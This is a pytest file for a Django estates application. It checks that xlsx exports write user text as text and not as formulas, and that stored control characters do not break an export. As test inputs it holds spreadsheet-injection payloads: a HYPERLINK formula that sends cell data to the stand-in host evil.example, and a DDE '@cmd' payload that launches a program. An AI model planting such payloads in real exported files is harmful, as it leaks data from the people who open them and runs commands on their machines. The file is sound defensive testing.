"""Findings 1 and 2: user text reaches every workbook as text, never a formula, and a
stored control character (saved before the model refused them) never takes an export
down. Checked on the four exports HQ opens: ledger, works sheet, coverage ledger and
schedule, plus the weekly pack."""

from io import BytesIO

import pytest
from openpyxl import load_workbook

from estates.models import Estate
from estates.xlsx import Column, Sheet, build_workbook, workbook_bytes
from tests.factories import CampaignFactory, EstateFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
EXPORTS = [
    "/estates/export.xlsx",
    "/works/sheets/export.xlsx",
    "/coverage/ledger/export.xlsx",
    "/works/schedule/export.xlsx",
]


def _cells(content):
    workbook = load_workbook(BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


@pytest.fixture
def hostile_estate(community_a):
    campaign = CampaignFactory(year=2013)
    estate = EstateFactory(community=community_a, name=FORMULA, campaign=campaign)
    # As stored by the API before control characters were refused at the model.
    Estate.objects.filter(pk=estate.pk).update(
        address="中原区\x0b建设路\x00 1 号", owning_unit="+SUM(1,2)", notes="@cmd|' /C calc'!A0"
    )
    return estate


@pytest.mark.parametrize("url", EXPORTS)
def test_no_user_text_becomes_a_formula(login, hq_staff, hostile_estate, url):
    response = login(hq_staff).get(url)
    assert response.status_code == 200
    cells = list(_cells(response.content))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    named = [c for c in cells if c.value == FORMULA]
    if url in ("/estates/export.xlsx", "/coverage/ledger/export.xlsx"):  # list every compound
        assert named and all(c.data_type == "s" and c.quotePrefix for c in named)


@pytest.mark.parametrize("url", EXPORTS)
def test_a_stored_control_character_does_not_take_the_export_down(
    login, clerk_a, hostile_estate, url
):
    response = login(clerk_a).get(url)
    assert response.status_code == 200
    values = [c.value for c in _cells(response.content) if isinstance(c.value, str)]
    assert not any("\x0b" in v or "\x00" in v for v in values)
    if url == "/estates/export.xlsx":
        assert "中原区建设路 1 号" in values


def test_weekly_pack_writes_text_as_text(login, hq_staff, hostile_estate):
    response = login(hq_staff).get("/reports/weekly.xlsx")
    assert response.status_code == 200
    assert not [c.coordinate for c in _cells(response.content) if c.data_type == "f"]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_the_writer_keeps_every_formula_trigger_as_text(text):
    sheet = Sheet(
        title="表",
        columns=[Column("名称"), Column("户数", kind="int")],
        rows=[(text, 3)],
        unit=text,
        notes=[text],
    )
    cells = list(_cells(workbook_bytes(build_workbook(sheet))))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == text.replace("\r", "") or c.value == text for c in cells)


def test_the_writer_survives_every_control_character():
    text = "".join(chr(i) for i in range(32)) + "\ud800\ufffe尾"
    sheet = Sheet(title=text, columns=[Column(text)], rows=[(text,)], sheet_name="a/b[1]" + text)
    cells = list(_cells(workbook_bytes(build_workbook(sheet))))
    assert any(c.value == "\t\n\r尾" for c in cells)
